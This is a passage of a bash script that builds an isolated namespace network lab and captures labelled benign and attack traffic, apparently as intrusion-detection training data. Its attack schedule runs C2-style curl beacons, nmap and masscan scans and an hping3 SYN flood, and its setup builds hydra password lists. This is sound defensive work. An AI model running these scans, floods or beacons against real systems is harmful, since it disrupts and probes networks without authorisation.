#!/bin/bash
# Tapir's real-tools lab: network namespaces on an isolated bridge, real services, real
# benign habits and real attack tools; two captures (benign baseline, attacks) + labels.
#
#   sh lab/run.sh [OUTDIR]          (root; default OUTDIR pcaps/lab)
#   sh lab/run.sh --cleanup         remove what a killed run left behind (tl-* namespaces)
#
# Environment: LAB_MINUTES (per capture, default 15), LAB_SEED (default 7),
# LAB_PHASES (default "baseline attack"), LAB_KEEP=1 keeps the work dir.
# Safety: the bridge lives in its own namespace (tl-core); no veth reaches the root
# namespace, no route leads out; every process is tracked and killed, every namespace
# deleted on exit. See lab/README.md.
[ -z "${BASH_VERSION:-}" ] && exec bash "$0" "$@"
set -u
LAB=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$LAB/.." && pwd)
MINUTES=${LAB_MINUTES:-15}
SEED=${LAB_SEED:-7}
PHASES=${LAB_PHASES:-baseline attack}
D=$(awk -v m="$MINUTES" 'BEGIN { printf "%d", m * 60 }')
[ "$D" -ge 60 ] || { echo "lab: LAB_MINUTES must be at least 1"; exit 2; }

log() { echo "lab $(date +%H:%M:%S): $*"; }
die() { echo "lab: error: $*" >&2; exit 1; }

[ "$(id -u)" = 0 ] || die "must run as root (network namespaces)"

cleanup_leftovers() {
  local ns p
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep '^tl-'); do
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
    ip netns del "$ns" 2>/dev/null
    rm -rf "/etc/netns/$ns"
  done
  rmdir /etc/netns 2>/dev/null
  return 0
}
if [ "${1:-}" = --cleanup ]; then cleanup_leftovers; log "cleaned up"; exit 0; fi

OUT=${1:-$ROOT/pcaps/lab}
case $OUT in /*) ;; *) OUT=$PWD/$OUT ;; esac

sh "$LAB/install.sh" || die "package installation failed"
if ip netns list 2>/dev/null | grep -q '^tl-'; then
  die "tl-* namespaces exist already (another lab running, or a killed one: sh lab/run.sh --cleanup)"
fi

W=$(mktemp -d /tmp/tapir-lab.XXXXXX)
export LAB_W=$W
mkdir -p "$W/run" "$W/log" "$W/data" "$W/store" "$W/ssh" "$W/ca" "$W/ftp/pub" "$W/empty" "$OUT"
chmod 755 "$W" "$W/ftp" "$W/ftp/pub"
NSLIST=()          # namespaces we created (deleted at exit)
SVC_PIDS=()        # long-running services (each its own process group)
PHASE_PIDS=()      # agents and attacks of the current phase
MADE_ETC_NETNS=0
MADE_RUN_SSHD=0
[ -d /etc/netns ] || MADE_ETC_NETNS=1
[ -d /run/sshd ] || MADE_RUN_SSHD=1

teardown() {
  local p ns
  trap - EXIT INT TERM
  log "teardown"
  for p in "${PHASE_PIDS[@]}" "${SVC_PIDS[@]}"; do kill -TERM -- "-$p" 2>/dev/null; done
  sleep 1
  for p in "${PHASE_PIDS[@]}" "${SVC_PIDS[@]}"; do kill -KILL -- "-$p" 2>/dev/null; done
  # Anything still inside one of our namespaces was started by us.
  for ns in "${NSLIST[@]}"; do
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
  done
  sleep 0.5
  for ns in "${NSLIST[@]}"; do
    ip netns del "$ns" 2>/dev/null
    rm -rf "/etc/netns/$ns"
  done
  [ $MADE_ETC_NETNS = 1 ] && rmdir /etc/netns 2>/dev/null
  [ $MADE_RUN_SSHD = 1 ] && rmdir /run/sshd 2>/dev/null
  if [ "${LAB_KEEP:-0}" = 1 ]; then log "work dir kept: $W"; else rm -rf "$W"; fi
  if ip netns list 2>/dev/null | grep -q '^tl-'; then echo "lab: WARNING: tl-* namespaces left" >&2; fi
}
trap teardown EXIT
trap 'exit 130' INT TERM

# Start a long-running command in namespace $1, in its own process group; logs to $W/log.
svc() {
  local ns=$1 tag=$2; shift 2
  setsid ip netns exec "tl-$ns" "$@" >"$W/log/$tag.log" 2>&1 &
  SVC_PIDS+=($!)
}
# Same, for this phase's agents and attacks.
job() {
  local ns=$1 tag=$2; shift 2
  setsid ip netns exec "tl-$ns" "$@" >>"$W/log/$tag.log" 2>&1 &
  PHASE_PIDS+=($!)
}
nsx() { local ns=$1; shift; ip netns exec "tl-$ns" "$@"; }

# ---- hosts ----------------------------------------------------------------------------
# name  ipv4/len  ipv6/len|-  bridge  role
# Internal 10.10.0.0/24 + fd00:10::/64; external-looking 81.2.69.0/24, 89.160.20.0/24,
# 175.16.199.0/24, 216.160.83.0/24 + 2a02:2e0:3fe:1001::/64; a home LAN 192.168.50.0/24
# behind the NAT gateway on a second bridge (not captured: its traffic shows NATed).
HOSTS_TXT="
rtr      10.10.0.1/24      fd00:10::1/64          br0 router
mon      10.10.0.5/24      -                      br0 monitor
web      10.10.0.10/24     fd00:10::10/64         br0 service
ssh      10.10.0.11/24     fd00:10::11/64         br0 service
ftp      10.10.0.12/24     -                      br0 server
backup   10.10.0.20/24     -                      br0 service
db       10.10.0.30/24     -                      br0 server
dns      10.10.0.53/24     fd00:10::53/64         br0 service
pub      10.10.0.80/24     -                      br0 service
voip     10.10.0.90/24     -                      br0 server
ntp      10.10.0.123/24    -                      br0 service
gw       10.10.0.254/24    -                      br0 gateway
ws01     10.10.0.101/24    fd00:10::101/64        br0 workstation
ws02     10.10.0.102/24    fd00:10::102/64        br0 automation
ws03     10.10.0.103/24    fd00:10::103/64        br0 workstation
ws04     10.10.0.104/24    fd00:10::104/64        br0 workstation
ws05     10.10.0.105/24    -                      br0 workstation
ws06     10.10.0.106/24    -                      br0 workstation
ws07     10.10.0.107/24    -                      br0 workstation
ws08     10.10.0.108/24    -                      br0 workstation
ws09     10.10.0.109/24    -                      br0 workstation
ws10     10.10.0.110/24    -                      br0 workstation
ws11     10.10.0.111/24    -                      br0 workstation
ws12     10.10.0.112/24    -                      br0 workstation
ws13     10.10.0.113/24    -                      br0 workstation
ws14     10.10.0.114/24    -                      br0 workstation
home1    192.168.50.11/24  -                      brh home
home2    192.168.50.12/24  -                      brh home
home3    192.168.50.13/24  -                      brh home
xweb1    81.2.69.10/24     2a02:2e0:3fe:1001::10/64 br0 service
xweb2    216.160.83.10/24  -                      br0 service
xupd     89.160.20.10/24   -                      br0 service
xcdn     175.16.199.10/24  -                      br0 service
xdns     89.160.20.53/24   -                      br0 service
xcli1    81.2.69.30/24     -                      br0 visitor
xcli2    216.160.83.30/24  -                      br0 visitor
xcli3    175.16.199.30/24  2a02:2e0:3fe:1001::30/64 br0 visitor
xadmin   89.160.20.30/24   -                      br0 admin
c2http   175.16.199.80/24  -                      br0 c2
c2tls1   81.2.69.80/24     -                      br0 c2
c2tls2   216.160.83.80/24  -                      br0 c2
drop     89.160.20.120/24  -                      br0 c2
tundns   175.16.199.53/24  -                      br0 c2
ascan    81.2.69.66/24     -                      br0 attacker
aipv6    -                 2a02:2e0:3fe:1001::99/64 br0 attacker
audp     89.160.20.77/24   -                      br0 attacker
aver     216.160.83.99/24  -                      br0 attacker
aall     175.16.199.99/24  -                      br0 attacker
amass    175.16.199.20/32  -                      brx attacker
aslow    81.2.69.140/24    -                      br0 attacker
asyn     89.160.20.201/24  -                      br0 attacker
audpf    175.16.199.66/24  -                      br0 attacker
aicmp    89.160.20.200/24  -                      br0 attacker
abrute   89.160.20.45/24   -                      br0 attacker
aftp     216.160.83.45/24  -                      br0 attacker
ahttp    81.2.69.45/24     -                      br0 attacker
asql     175.16.199.45/24  -                      br0 attacker
"
declare -A IP4 IP6 BR ROLE GW4
HOSTS=()
while read -r h a4 a6 br role; do
  [ -n "$h" ] || continue
  HOSTS+=("$h"); IP4[$h]=${a4%/*}; IP6[$h]=${a6%/*}; BR[$h]=$br; ROLE[$h]=$role
  [ "$a4" = - ] && IP4[$h]=-
  [ "$a6" = - ] && IP6[$h]=-
  case $a4 in 10.10.0.*) GW4[$h]=10.10.0.1 ;; 192.168.50.*) GW4[$h]=192.168.50.1 ;;
    -) GW4[$h]=- ;; *) GW4[$h]=${a4%.*/*}.1 ;; esac
  GW4[$h]=${GW4[$h]%/*}
done <<<"$HOSTS_TXT"
# The external /24s' ".1" addresses also live on the router (it forwards nothing).
LAB_V4_NETS="10.10.0.0/24 81.2.69.0/24 89.160.20.0/24 175.16.199.0/24 216.160.83.0/24"
LAB_V6_NETS="fd00:10::/64 2a02:2e0:3fe:1001::/64"

# ---- topology -------------------------------------------------------------------------
ns_new() {
  local ns=tl-$1
  ip netns add "$ns" || die "ip netns add $ns"
  NSLIST+=("$ns")
  ip -n "$ns" link set lo up
  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0 \
    net.ipv6.conf.all.accept_ra=0 net.ipv6.conf.default.accept_ra=0 \
    net.ipv6.conf.default.router_solicitations=0 net.ipv6.conf.all.router_solicitations=0 >/dev/null
}

# veth HOST-IFNAME on bridge BR of tl-core, inside namespace tl-$1 as $2
attach() {
  local h=$1 ifn=$2 br=$3 peer="v${4:-}-$1"
  ip -n tl-core link add "$peer" type veth peer name "$ifn" netns "tl-$h" || die "veth for $h"
  ip -n tl-core link set "$peer" master "$br" up
  ip netns exec tl-core ethtool -K "$peer" tx off tso off gso off gro off >/dev/null 2>&1
  ip netns exec "tl-$h" ethtool -K "$ifn" tx off tso off gso off gro off >/dev/null 2>&1
  ip -n "tl-$h" link set "$ifn" up
}

build_topology() {
  log "topology: ${#HOSTS[@]} namespaces on bridge br0 in tl-core"
  ip netns add tl-core || die "ip netns add tl-core"
  NSLIST+=(tl-core)
  ip netns exec tl-core sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n tl-core link set lo up
  for br in br0 brh brx; do
    ip -n tl-core link add "$br" type bridge stp_state 0 forward_delay 0 mcast_snooping 0 || die "bridge"
    ip -n tl-core link set "$br" up
  done
  local h n
  for h in "${HOSTS[@]}"; do
    ns_new "$h"
    attach "$h" eth0 "${BR[$h]}"
    [ "${IP4[$h]}" != - ] && ip -n "tl-$h" addr add "$(grep -E "^$h " <<<"$HOSTS_TXT" | awk '{print $2}')" dev eth0
    [ "${IP6[$h]}" != - ] && ip -n "tl-$h" addr add "$(grep -E "^$h " <<<"$HOSTS_TXT" | awk '{print $3}')" dev eth0 nodad
    if [ "${BR[$h]}" = br0 ]; then
      for n in $LAB_V4_NETS; do ip -n "tl-$h" route replace "$n" dev eth0 2>/dev/null; done
      if [ "${IP6[$h]}" != - ]; then
        for n in $LAB_V6_NETS; do ip -n "tl-$h" -6 route replace "$n" dev eth0 2>/dev/null; done
      fi
    fi
    if [ "${BR[$h]}" = brx ]; then
      ip -n "tl-$h" route add default dev eth0        # on-link: the edge router proxy-ARPs
    elif [ "$h" != rtr ] && [ "${GW4[$h]}" != - ]; then
      ip -n "tl-$h" route add default via "${GW4[$h]}" dev eth0
    fi
    if [ "${IP6[$h]}" != - ] && [ "$h" != rtr ]; then
      case ${IP6[$h]} in fd00:*) ip -n "tl-$h" -6 route add default via fd00:10::1 dev eth0 ;;
        *) ip -n "tl-$h" -6 route add default via 2a02:2e0:3fe:1001::1 dev eth0 ;; esac
    fi
    mkdir -p "/etc/netns/tl-$h"
    case ${IP4[$h]} in
      10.10.*|192.168.*) echo "nameserver 10.10.0.53" ;;
      -) echo "nameserver 89.160.20.53" ;;
      *) echo "nameserver 89.160.20.53" ;;
    esac >"/etc/netns/tl-$h/resolv.conf"
    printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/tl-$h/hosts"
  done
  # The router answers for every subnet's gateway address and forwards nothing
  # (ip_forward stays 0): packets for addresses outside the lab die there.
  for n in 81.2.69.1/24 89.160.20.1/24 175.16.199.1/24 216.160.83.1/24; do
    ip -n tl-rtr addr add "$n" dev eth0
  done
  ip -n tl-rtr addr add 2a02:2e0:3fe:1001::1/64 dev eth0 nodad
  # NAT gateway: eth1 on the home bridge, masquerade out of eth0.
  attach gw eth1 brh h
  ip -n tl-gw addr add 192.168.50.1/24 dev eth1
  ip netns exec tl-gw sysctl -qw net.ipv4.ip_forward=1
  ip netns exec tl-gw nft -f - <<'EOF' || die "nft in tl-gw"
table ip nat {
  chain postrouting {
    type nat hook postrouting priority srcnat; policy accept;
    oifname "eth0" masquerade
  }
}
EOF
  # Edge router for the masscan host: masscan sends every probe to one router MAC, so
  # that host sits on its own bridge (brx, not captured) behind tl-edge, which routes
  # (no NAT) between brx and br0 and answers ARP for it on br0 (proxy).
  ns_new edge
  attach edge eth0 br0
  attach edge eth1 brx x
  ip -n tl-edge addr add 10.10.0.2/24 dev eth0
  for n in $LAB_V4_NETS; do ip -n tl-edge route replace "$n" dev eth0; done
  ip -n tl-edge route add 175.16.199.20/32 dev eth1
  ip netns exec tl-edge sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.eth1.proxy_arp=1
  ip -n tl-edge neigh add proxy 175.16.199.20 dev eth0
  EDGE_MAC=$(ip -n tl-edge -o link show eth1 | grep -o 'link/ether [0-9a-f:]*' | cut -d' ' -f2)
  # Safety check: no namespace of ours has an interface into the root namespace,
  # and the root namespace got nothing new.
  local bad
  bad=$(ip -o link show | grep -E 'v[hx]?-[a-z0-9]+|br0|brh|brx' || true)
  [ -z "$bad" ] || die "unexpected lab interface in the root namespace: $bad"
}

# ---- credentials, data ----------------------------------------------------------------
make_certs() {
  log "certificates: lab CA + server certificates; self-signed for C2"
  local d=$W/ca name
  openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=Tapir Lab Root CA/O=Corp Lab" \
    -keyout "$d/ca.key" -out "$d/ca.pem" >/dev/null 2>&1 || die "CA"
  mkcert() {  # name san...
    local n=$1; shift
    local san; san=$(printf ',%s' "$@"); san=${san#,}
    openssl req -newkey rsa:2048 -nodes -subj "/CN=$n" -keyout "$d/$n.key" -out "$d/$n.csr" >/dev/null 2>&1
    printf 'subjectAltName=%s\nextendedKeyUsage=serverAuth\n' "$san" >"$d/$n.ext"
    openssl x509 -req -in "$d/$n.csr" -CA "$d/ca.pem" -CAkey "$d/ca.key" -CAcreateserial -days 30 \
      -extfile "$d/$n.ext" -out "$d/$n.pem" >/dev/null 2>&1 || die "cert $n"
  }
  mkcert www.corp.lab DNS:www.corp.lab DNS:intranet.corp.lab IP:10.10.0.10 IP:fd00:10::10
  mkcert pub.corp.lab DNS:pub.corp.lab IP:10.10.0.80
  mkcert www.news-site.test DNS:www.news-site.test IP:81.2.69.10
  mkcert shop.example-store.test DNS:shop.example-store.test
  mkcert updates.vendor.test DNS:updates.vendor.test
  mkcert cdn.fastassets.test DNS:cdn.fastassets.test "DNS:*.cdn.fastassets.test"
  mkcert files.sharebox.test DNS:files.sharebox.test
  for name in telemetry.winupdate-cdn.test static.cloudsvc.test; do
    openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=$name" \
      -keyout "$d/$name.key" -out "$d/$name.pem" >/dev/null 2>&1 || die "self-signed $name"
  done
}

make_data() {
  log "data files"
  head -c 5M /dev/urandom >"$W/ftp/pub/firmware-1.2.bin"
  head -c 1M /dev/urandom | base64 >"$W/ftp/pub/dataset.csv"
  head -c 300K /dev/urandom >"$W/ftp/pub/manual.pdf"
  echo "Corp lab FTP: firmware and datasets." >"$W/ftp/pub/README.txt"
  chmod -R a+rX "$W/ftp"
  head -c 24M /dev/urandom >"$W/data/db-backup.tar"
  head -c 16M /dev/urandom >"$W/data/ftp-backup.tar"
  head -c 20M /dev/urandom >"$W/data/exfil-internal.zip"
  head -c 20M /dev/urandom >"$W/data/exfil-external.7z"
  head -c 1M /dev/urandom >"$W/data/tunnel-loot.bin"
  ssh-keygen -q -t ed25519 -N '' -C lab-client -f "$W/ssh/id_ed25519"
  cp "$W/ssh/id_ed25519.pub" "$W/ssh/authorized_keys"
  cat >"$W/ssh/client_config" <<EOF
Host *
  User root
  IdentityFile $W/ssh/id_ed25519
  IdentitiesOnly yes
  StrictHostKeyChecking no
  UserKnownHostsFile /dev/null
  GlobalKnownHostsFile /dev/null
  BatchMode yes
  ConnectTimeout 8
  LogLevel ERROR
EOF
  # wordlists for hydra: none of them is a valid credential
  printf '%s\n' root admin >"$W/data/users2.txt"
  printf '%s\n' root admin user test guest >"$W/data/users5.txt"
  printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon \
    123123 baseball abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop \
    123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx \
    123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer harley \
    batman andrew tigger sunshine iloveyou 2000 charlie robert thomas hockey ranger >"$W/data/pass.txt"
  head -20 "$W/data/pass.txt" >"$W/data/pass20.txt"
  head -30 "$W/data/pass.txt" >"$W/data/pass30.txt"
  head -40 "$W/data/pass.txt" >"$W/data/pass40.txt"
  head -10 "$W/data/pass.txt" >"$W/data/pass10.txt"
}

# ---- services -------------------------------------------------------------------------
webapp() {  # ns tag args...
  local ns=$1 tag=$2; shift 2
  svc "$ns" "$tag" python3 "$LAB/webapp.py" "$@"
}

start_sshd() {  # ns ports...
  local ns=$1; shift
  local d=$W/sshd-$ns p
  mkdir -p "$d"
  ssh-keygen -q -t ed25519 -N '' -f "$d/ssh_host_ed25519_key"
  ssh-keygen -q -t rsa -b 2048 -N '' -f "$d/ssh_host_rsa_key"
  {
    for p in "$@"; do echo "Port $p"; done
    cat <<EOF
HostKey $d/ssh_host_ed25519_key
HostKey $d/ssh_host_rsa_key
PidFile $d/sshd.pid
AuthorizedKeysFile $W/ssh/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxAuthTries 6
MaxStartups 100:30:200
MaxSessions 50
LoginGraceTime 30
X11Forwarding no
PrintMotd no
LogLevel INFO
Subsystem sftp internal-sftp
EOF
  } >"$d/sshd_config"
  svc "$ns" "sshd-$ns" /usr/sbin/sshd -D -e -f "$d/sshd_config"
}

start_services() {
  log "services: web apps, sshd, vsftpd, dnsmasq, chronyd -x, iodined"
  mkdir -p /run/sshd
  local C=$W/ca
  webapp web web --bind 10.10.0.10 --bind fd00:10::10 --http 80 --https 443 \
    --cert "$C/www.corp.lab.pem" --key "$C/www.corp.lab.key" --name www.corp.lab --db "$W/run/app.db"
  webapp pub pub --bind 10.10.0.80 --http 80 --https 443 --cert "$C/pub.corp.lab.pem" --key "$C/pub.corp.lab.key" --name pub.corp.lab
  webapp backup backup-web --bind 10.10.0.20 --http 8080 --name backup.corp.lab
  webapp xweb1 xweb1 --bind 81.2.69.10 --bind 2a02:2e0:3fe:1001::10 --http 80 --https 443 \
    --cert "$C/www.news-site.test.pem" --key "$C/www.news-site.test.key" --name www.news-site.test
  webapp xweb2 xweb2 --bind 216.160.83.10 --http 80 --https 443 \
    --cert "$C/shop.example-store.test.pem" --key "$C/shop.example-store.test.key" --name shop.example-store.test
  webapp xupd xupd --bind 89.160.20.10 --http 80 --https 443 \
    --cert "$C/updates.vendor.test.pem" --key "$C/updates.vendor.test.key" --name updates.vendor.test
  webapp xcdn xcdn --bind 175.16.199.10 --http 80 --https 443 \
    --cert "$C/cdn.fastassets.test.pem" --key "$C/cdn.fastassets.test.key" --name cdn.fastassets.test
  webapp c2http c2http --bind 175.16.199.80 --http 80 --c2 --name api.cdn-metrics.test
  webapp c2tls1 c2tls1 --bind 81.2.69.80 --https 443 --c2 --name telemetry.winupdate-cdn.test \
    --cert "$C/telemetry.winupdate-cdn.test.pem" --key "$C/telemetry.winupdate-cdn.test.key"
  webapp c2tls2 c2tls2 --bind 216.160.83.80 --https 443 --c2 --name static.cloudsvc.test \
    --cert "$C/static.cloudsvc.test.pem" --key "$C/static.cloudsvc.test.key"
  webapp drop drop --bind 89.160.20.120 --https 443 --c2 --name files.sharebox.test \
    --cert "$C/files.sharebox.test.pem" --key "$C/files.sharebox.test.key"

  start_sshd ssh 22 2222
  start_sshd backup 22

  cat >"$W/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
background=NO
anonymous_enable=YES
local_enable=YES
write_enable=NO
anon_root=$W/ftp
no_anon_password=YES
ftp_username=nobody
secure_chroot_dir=$W/empty
pam_service_name=vsftpd
pasv_enable=YES
pasv_min_port=30000
pasv_max_port=30200
seccomp_sandbox=NO
xferlog_enable=NO
dirmessage_enable=NO
ftpd_banner=Corp Lab FTP service
EOF
  svc ftp vsftpd /usr/sbin/vsftpd "$W/vsftpd.conf"

  # Resolvers: internal (10.10.0.53) and external (89.160.20.53), same lab records,
  # no upstream; unknown names under the lab zones get NXDOMAIN.
  local recs=(
    --host-record=www.corp.lab,10.10.0.10,fd00:10::10 --host-record=intranet.corp.lab,10.10.0.10,fd00:10::10
    --host-record=ssh.corp.lab,10.10.0.11,fd00:10::11 --host-record=ftp.corp.lab,10.10.0.12
    --host-record=backup.corp.lab,10.10.0.20 --host-record=db.corp.lab,10.10.0.30
    --host-record=ns.corp.lab,10.10.0.53,fd00:10::53 --host-record=ntp.corp.lab,10.10.0.123
    --host-record=pub.corp.lab,10.10.0.80 --host-record=mon.corp.lab,10.10.0.5
    --host-record=mail.corp.lab,10.10.0.25 --host-record=wiki.corp.lab,10.10.0.10
    --host-record=www.news-site.test,81.2.69.10,2a02:2e0:3fe:1001::10
    --host-record=shop.example-store.test,216.160.83.10 --host-record=updates.vendor.test,89.160.20.10
    --address=/cdn.fastassets.test/175.16.199.10
    --host-record=api.cdn-metrics.test,175.16.199.80 --host-record=telemetry.winupdate-cdn.test,81.2.69.80
    --host-record=static.cloudsvc.test,216.160.83.80 --host-record=files.sharebox.test,89.160.20.120
    --local=/corp.lab/ --local=/test/ --local=/lab/ --no-resolv --no-hosts --no-poll --cache-size=0
    --bind-interfaces --keep-in-foreground --user=nobody --group=nogroup --log-facility=-)
  svc dns dnsmasq-int dnsmasq "${recs[@]}" --listen-address=10.10.0.53 --listen-address=fd00:10::53 \
    --pid-file="$W/run/dnsmasq-int.pid"
  svc xdns dnsmasq-ext dnsmasq "${recs[@]}" --listen-address=89.160.20.53 --pid-file="$W/run/dnsmasq-ext.pid"

  # NTP server: -x never touches the (shared) system clock.
  cat >"$W/chrony-server.conf" <<EOF
local stratum 8
allow all
port 123
cmdport 0
pidfile $W/run/chronyd-server.pid
driftfile $W/run/chrony.drift
EOF
  svc ntp chronyd chronyd -x -d -f "$W/chrony-server.conf"

  # DNS tunnel server: authoritative for t.tun.test at 175.16.199.53 (attack phase use).
  svc tundns iodined iodined -f -c -P labtunnelpw -l 175.16.199.53 -n 175.16.199.53 172.30.0.1/27 t.tun.test
}

check_services() {
  local want=(web:10.10.0.10:443 web:10.10.0.10:80 pub:10.10.0.80:443 backup:10.10.0.20:8080
    ssh:0.0.0.0:22 ssh:0.0.0.0:2222 backup:0.0.0.0:22 ftp:0.0.0.0:21
    xweb1:81.2.69.10:443 xupd:89.160.20.10:443 c2http:175.16.199.80:80 c2tls1:81.2.69.80:443
    drop:89.160.20.120:443) w ns a i ok=1
  for i in $(seq 1 30); do
    ok=1
    for w in "${want[@]}"; do
      ns=${w%%:*}; a=${w#*:}
      nsx "$ns" ss -ltnH | awk '{print $4}' | grep -qx "$a" || { ok=0; break; }
    done
    [ $ok = 1 ] && break
    sleep 0.5
  done
  [ $ok = 1 ] || { tail -n 5 "$W"/log/*.log; die "service not listening: $w"; }
  nsx dns ss -lunH | grep -q '10.10.0.53:53' || die "dnsmasq not listening"
  nsx ntp ss -lunH | grep -q ':123' || die "chronyd not listening"
  nsx tundns ss -lunH | grep -q ':53' || die "iodined not listening"
  log "services up"
}

# ---- phases ---------------------------------------------------------------------------
EVENTS=$W/events.csv
: >"$EVENTS"

# attack NS IP LABEL TYPE AT(fraction of the phase) MAXSECONDS -- command...
# Runs in the background: waits until its start time, runs the command under timeout,
# records the real start and end in the events file.
attack() {
  local ns=$1 ip=$2 label=$3 type=$4 at=$5 max=$6; shift 7
  local start_at jit
  jit=$(( (RANDOM % 21) - 10 ))     # +-1% of the phase per step, seeded
  start_at=$(awk -v t0="$T0" -v d="$D" -v f="$at" -v j="$jit" 'BEGIN { printf "%d", t0 + d * (f + j / 1000) }')
  (
    now=$(date +%s)
    [ "$start_at" -gt "$now" ] && sleep $((start_at - now))
    left=$((END - $(date +%s) - 5))
    [ "$left" -gt "$max" ] && left=$max
    [ "$left" -lt 5 ] && exit 0
    s=$(date +%s.%N)
    setsid ip netns exec "tl-$ns" timeout -s INT -k 5 "$left" "$@" >>"$W/log/attack-$ns.log" 2>&1
    e=$(date +%s.%N)
    echo "$ip,$label,$type,$s,$e" >>"$EVENTS"
    echo "$ip,$label,$type,$s,$e $*" >>"$W/log/attacks.log"
  ) &
  PHASE_PIDS+=($!)
}

# A victim row for a flood: same times as the attacker's row (filled in by labels.py).
victim() { echo "$1,victim,$2,attacker:$3" >>"$W/victims.csv"; }

start_agents() {  # phase-number
  local pn=$1 i=0 h role extra
  for h in "${HOSTS[@]}"; do
    i=$((i + 1))
    role=${ROLE[$h]}
    extra=()
    case $role in
      workstation|automation|monitor|visitor|admin|home) ;;
      server) ;;
      service) [ "$h" = web ] || [ "$h" = ssh ] || [ "$h" = dns ] || [ "$h" = backup ] || continue; role=server ;;
      gateway) role=server ;;
      *) continue ;;
    esac
    local bseed=$((SEED * 1000 + pn * 100 + i))
    local backup_at=""
    case $h in
      db) backup_at=$(awk -v t0="$T0" -v d="$D" -v s="$bseed" 'BEGIN { srand(s); printf "%d", t0 + d * (0.35 + 0.3 * rand()) }')
          extra=(BACKUP_AT=$backup_at BACKUP_HOW=put) ;;
      ftp) backup_at=$(awk -v t0="$T0" -v d="$D" -v s="$bseed" 'BEGIN { srand(s); printf "%d", t0 + d * (0.6 + 0.2 * rand()) }')
          extra=(BACKUP_AT=$backup_at BACKUP_HOW=rsync) ;;
    esac
    job "$h" "agent-$h" env "${extra[@]}" LAB_W="$W" timeout -k 5 $((D + 15)) bash "$LAB/agent.sh" "$role" "$h" "$bseed" "$END"
  done
}

start_capture() {  # phase
  RAW=$W/raw-$1.pcap
  setsid ip netns exec tl-core tcpdump -i br0 -n -s 0 -B 65536 -Z root -w "$RAW" >"$W/log/tcpdump-$1.log" 2>&1 &
  CAP_PID=$!
  sleep 2
}

stop_capture() {
  kill -INT "$CAP_PID" 2>/dev/null
  wait "$CAP_PID" 2>/dev/null
  cat "$W/log/tcpdump-$1.log" | grep -E 'captured|dropped' | sed "s/^/lab tcpdump $1: /"
}

stop_phase() {
  local p
  for p in "${PHASE_PIDS[@]}"; do kill -TERM -- "-$p" 2>/dev/null; kill -TERM "$p" 2>/dev/null; done
  sleep 2
  for p in "${PHASE_PIDS[@]}"; do kill -KILL -- "-$p" 2>/dev/null; kill -KILL "$p" 2>/dev/null; done
  # client namespaces hold nothing of the phase any more (services stay)
  for ns in "${NSLIST[@]}"; do
    case $ns in tl-ws*|tl-home*|tl-xcli*|tl-xadmin|tl-a*|tl-mon|tl-db|tl-voip|tl-gw)
      for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done ;;
    esac
  done
  PHASE_PIDS=()
}

schedule_attacks() {
  local d=$W/data T=$W/data
  # Beacons: fixed interval with +-10% jitter, for most of the capture.
  beacon() {  # ns ip c2label interval url curl-args...
    local ns=$1 ip=$2 ival=$3 url=$4; shift 4
    attack "$ns" "$ip" attack beacon 0.06 $((D)) -- bash -c '
      RANDOM='"$((SEED + ival))"'; end=$(( $(date +%s) + '"$D"' ))
      for i in $(seq 1 500); do
        [ "$(date +%s)" -ge "$end" ] && break
        curl -s -o /dev/null -m 8 '"$*"' -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" "'"$url"'?id=$i&s=$RANDOM" || true
        j=$(( '"$ival"' * 1000 + (RANDOM % ('"$ival"' * 200 + 1)) - '"$ival"' * 100 ))
        sleep $(awk -v j=$j "BEGIN{print j/1000}")
      done'
  }
  beacon ws09 10.10.0.109 10 http://175.16.199.80/api/v2/collect
  beacon ws06 10.10.0.106 15 http://api.cdn-metrics.test/pixel.gif
  beacon ws10 10.10.0.110 30 https://telemetry.winupdate-cdn.test/v1/checkin -k
  beacon ws05 10.10.0.105 60 https://216.160.83.80/jquery-3.3.1.min.js -k

  # Scans
  attack ascan 81.2.69.66 attack portscan 0.12 240 -- nmap -n -Pn -sS -T4 -p 1-1024 10.10.0.10-12,20,30,53
  attack amass 175.16.199.20 attack hostscan 0.22 40 -- masscan 10.10.0.0/24 -p21,22,23,25,53,80,110,139,443,445,3306,3389,5900,8080 \
      --rate 300 --wait 3 --adapter eth0 --adapter-ip 175.16.199.20 --router-mac "$EDGE_MAC"
  attack audp 89.160.20.77 attack portscan 0.30 240 -- nmap -n -Pn -sU -T4 --top-ports 60 10.10.0.53 10.10.0.123 10.10.0.90
  attack aver 216.160.83.99 attack portscan 0.36 240 -- nmap -n -Pn -sV -p 21,22,80,443,2222,8080 10.10.0.10-12,20
  attack aall 175.16.199.99 attack portscan 0.42 240 -- nmap -n -Pn -A -p 443 10.10.0.10
  attack aipv6 2a02:2e0:3fe:1001::99 attack portscan 0.47 240 -- nmap -6 -n -Pn -sS -T4 --top-ports 300 \
      fd00:10::10 fd00:10::11 fd00:10::53 fd00:10::101 fd00:10::102 fd00:10::103 fd00:10::104
  attack aslow 81.2.69.140 attack portscan 0.16 $((D / 2)) -- nmap -n -Pn -sS -T1 --max-retries 0 \
      -p 21,22,23,25,80,110,139,143,443,445,993,1433,3306,3389,5900,8080,8443,9200 10.10.0.11

  # Floods: 20,000 packets each, 2,000 a second.
  attack asyn 89.160.20.201 attack synflood 0.52 60 -- hping3 -q -S -p 443 --rand-source -c 20000 -i u500 10.10.0.80
  victim 10.10.0.80 synflood 89.160.20.201
